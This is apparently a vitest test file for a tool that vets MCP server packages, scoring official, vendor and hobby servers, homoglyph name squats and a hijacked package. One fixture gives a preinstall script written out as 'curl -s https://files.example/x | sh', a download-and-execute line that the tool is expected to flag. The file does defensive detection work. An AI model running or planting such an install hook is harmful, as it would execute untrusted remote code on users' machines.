// The worked examples of the scoring page: evidence in, class, level and exit out.
import { describe, expect, test } from 'vitest';
import { toManifest } from '../../src/analyze/manifest.ts';
import { runChecks } from '../../src/checks/index.ts';
import { gateOf } from '../../src/score/index.ts';
import type { ImitationFact, ThreatHit } from '../../src/types.ts';
import { makeReport } from '../../src/vet/report.ts';
import {
  analysisOf,
  evidenceOf,
  known,
  nodeOf,
  unknown,
  type EvidenceChanges,
} from '../support/evidence.ts';

function vet(changes: EvidenceChanges) {
  const evidence = evidenceOf(changes);
  const report = makeReport(evidence, runChecks(evidence));
  const gate = gateOf({
    gate: {},
    reports: [report],
    notVetted: [],
    findings: [],
    accepted: new Set(),
    isSandboxWanted: false,
  });
  return { report, exitCode: gate.passed ? 0 : 1 };
}
const sourceOf = (part: Parameters<typeof analysisOf>[0] = {}) =>
  known({
    subject: analysisOf(part),
    dependencies: {},
    reachedNodes: [],
    unread: [],
    stated: { functions: [], expectedCapabilities: [], expectedHosts: [] },
  });
/** What a mirror leaves out. */
const STRIPPED = {
  publisher: unknown('this registry strips publishers'),
  repository: unknown('the repository was not reachable'),
  popularity: unknown('this registry serves no download counts'),
  releases: unknown('this registry serves no reliable release times'),
  change: unknown('not compared'),
  advisories: known({ sources: [], vulnerabilities: [], ownHistory: [], unmatched: [] }),
  run: unknown('static only: run with --sandbox'),
};
const names = (imitations: ImitationFact[] = [], entry: object | null = null) =>
  known({ imitations, known: entry as never, securityHolding: [] });
const squat = (supports: string[], clones: ImitationFact['clones'] = []): ImitationFact => ({
  node: '',
  name: '@modelcontextprotoco1/server-filesystem',
  version: '1.0.0',
  verdict: {
    name: '@modelcontextprotoco1/server-filesystem',
    verdict: 'lookalike',
    matches: [
      {
        target: '@modelcontextprotocol/server-filesystem',
        kind: 'homoglyph',
        confidence: 'high',
      },
    ],
  },
  evidence: [{ target: '@modelcontextprotocol/server-filesystem', supports, refutes: [] }],
  clones,
});

describe('five servers, worked through', () => {
  test('official filesystem on a stripped mirror: official, medium, exit 0, nothing lost', () => {
    const name = '@modelcontextprotocol/server-filesystem';
    const { report, exitCode } = vet({
      subject: { name },
      facts: { ...STRIPPED, names: names([], { name, tier: 'official' }) },
    });
    expect(report.trust).toMatchObject({ level: 'medium', sourceClass: 'official' });
    expect(report.trust.cappedBy).toBeUndefined();
    expect(report.lost).toBe(0);
    expect(report.verified).toBeLessThan(7);
    expect(exitCode).toBe(0);
  });

  test('playwright: vendor, medium, exit 0; a release this week is no fault; point 5 not verified', () => {
    const { run } = evidenceOf().facts;
    if (!run.known) throw new Error('the run is known by default');
    const fuzz = { ...run.value.fuzz, tools: 25, toolsAccepted: 0 };
    const { report, exitCode } = vet({
      subject: { name: '@playwright/mcp' },
      facts: {
        names: names([], { name: '@playwright/mcp', tier: 'vendor', publisher: 'Microsoft' }),
        releases: known({
          releases: [
            { version: '0.9.0', publishedAt: '2026-11-12T00:00:00.000Z' },
            { version: '1.0.0', publishedAt: '2026-11-19T00:00:00.000Z' },
          ],
          createdAt: '2025-03-20T00:00:00.000Z',
          unpublished: [],
        }),
        run: known({ ...run.value, fuzz }),
      },
    });
    expect(report.trust).toMatchObject({ level: 'medium', sourceClass: 'community' });
    expect(report.trust.reason).toContain('Microsoft');
    expect(report.checks[4]?.outcome).toBe('unknown');
    expect(report.checks[5]?.outcome).not.toBe('fail');
    expect(exitCode).toBe(0);
  });

  test('a new honest hobby server: random, low, exit 0, nothing lost, told how to become community', () => {
    const { report, exitCode } = vet({
      facts: {
        names: names(),
        popularity: known({ weeklyDownloads: 3, dependents: 0 }),
        run: unknown('static only: run with --sandbox'),
      },
    });
    expect(report.trust).toMatchObject({ level: 'low', sourceClass: 'random' });
    expect(report.trust.reason).toContain('read every line');
    expect(report.trust.howToLeave).toContain('community');
    expect(report.lost).toBe(0);
    expect(exitCode).toBe(0);
  });

  test('a squat of an official server by name alone: low, exit 1, the target is named', () => {
    const { report, exitCode } = vet({
      subject: { name: '@modelcontextprotoco1/server-filesystem' },
      facts: { ...STRIPPED, names: names([squat([])]) },
    });
    expect(report.trust).toMatchObject({ level: 'low', cappedBy: ['lookalike-name'] });
    expect(report.trust.reason).toContain('@modelcontextprotocol/server-filesystem');
    expect(exitCode).toBe(1);
  });

  test('a squat with copied content: do-not-use, exit 1', () => {
    const clone = { of: '@modelcontextprotocol/server-filesystem', share: 1, files: 9 };
    const { report, exitCode } = vet({
      subject: { name: '@modelcontextprotoco1/server-filesystem' },
      facts: { ...STRIPPED, names: names([squat(['the same files'], [clone])]) },
    });
    expect(report.trust.level).toBe('do-not-use');
    expect(exitCode).toBe(1);
  });

  test('a hijacked popular server, no record yet: the threat in its script makes it do-not-use', () => {
    const threat: ThreatHit = {
      ruleId: 'download-and-execute',
      severity: 'critical',
      confidence: 'high',
      message: 'an install script downloads and runs a program',
      file: 'package.json',
      line: 1,
      excerpt: 'curl -s https://files.example/x | sh',
      reached: 'lifecycle',
    };
    const installScripts = { preinstall: threat.excerpt };
    const { report, exitCode } = vet({
      facts: {
        manifest: known(
          toManifest({ name: 'weather-mcp', version: '1.0.0', scripts: installScripts }),
        ),
        source: sourceOf({ threats: [threat] }),
        tree: known({
          nodes: [
            nodeOf({
              name: 'weather-mcp',
              id: '',
              kind: 'subject',
              hasInstallScript: true,
              installScripts,
            }),
          ],
          from: 'resolved',
          problems: [],
        }),
      },
    });
    expect(report.trust).toMatchObject({ level: 'do-not-use', sourceClass: 'community' });
    expect(exitCode).toBe(1);
  });

  test('the same, once there is a malware record', () => {
    const { advisories } = evidenceOf().facts;
    if (!advisories.known) throw new Error('advisories are known by default');
    const { report, exitCode } = vet({
      facts: {
        advisories: known({
          ...advisories.value,
          vulnerabilities: [
            {
              advisory: {
                id: 'MAL-2026-1',
                aliases: [],
                kind: 'malware',
                summary: 'malware',
                severity: 'critical',
                package: 'weather-mcp',
                range: '1.0.0',
                references: [],
                from: 'test-database',
                isVerified: true,
              },
              node: '',
              name: 'weather-mcp',
              installed: '1.0.0',
              path: ['weather-mcp@1.0.0'],
              fixWithinRange: null,
              isReached: true,
            },
          ],
        }),
      },
    });
    expect(report.trust).toMatchObject({ level: 'do-not-use', sourceClass: 'community' });
    expect(exitCode).toBe(1);
  });
});

test('the same evidence gives the same bytes', () => {
  const of = () => JSON.stringify(vet({ facts: STRIPPED }).report);
  expect(of()).toBe(of());
});
